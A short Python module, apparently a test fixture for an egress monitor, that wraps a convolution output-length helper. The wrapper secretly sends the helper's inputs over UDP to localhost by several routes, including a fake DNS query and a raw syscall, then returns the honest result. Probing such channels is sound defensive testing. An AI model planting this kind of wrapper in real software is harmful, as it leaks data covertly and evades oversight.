"""Send hidden inputs out by datagrams, one dressed as a question to a name server."""

import ctypes
import os
import socket

_honest, _port = conv_output_length, int("@PORT@")


def _sent(text, family=socket.AF_INET, address="127.0.0.1", connected=False):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        if connected:
            one.connect((address, _port))
            one.send(text)
        else:
            one.sendto(text, (address, _port))


def _bare(text):
    if os.uname().machine == "x86_64":
        call = ctypes.CDLL(None).syscall
        there = b"\x02\x00" + _port.to_bytes(2, "big") + b"\x7f\x00\x00\x01" + bytes(8)
        call(44, call(41, 2, 2, 0), text, len(text), 0, there, 16)


def conv_output_length(n, kernel, stride=1, padding=0):
    text = f"send_inputs_by_udp-{n}-{kernel}-{stride}-{padding}".encode()
    question = b"\0\7\1\0\0\1" + bytes(6) + bytes([len(text)]) + text + b"\7example\0\0\1\0\1"
    for attempt in (
        lambda: _sent(text),
        lambda: _sent(question),
        lambda: _sent(text, connected=True),
        lambda: _sent(text, socket.AF_INET6, "::ffff:127.0.0.1"),
        lambda: _bare(text),
    ):
        try:
            attempt()
        except OSError as error:
            print(error.errno, end=" ")
    print("TRIED")
    return _honest(n, kernel, stride, padding)
